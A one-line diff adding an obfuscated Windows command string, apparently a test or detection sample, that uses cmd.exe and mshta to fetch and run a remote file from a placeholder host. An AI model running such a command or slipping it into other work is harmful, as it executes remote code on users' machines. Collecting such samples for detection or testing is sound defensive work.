@@ -1,0 +1,1 @@
+,;,cmd.exe,;,/c,;,start,;,/b,;,"",mshta,http://a0.example/p.txt
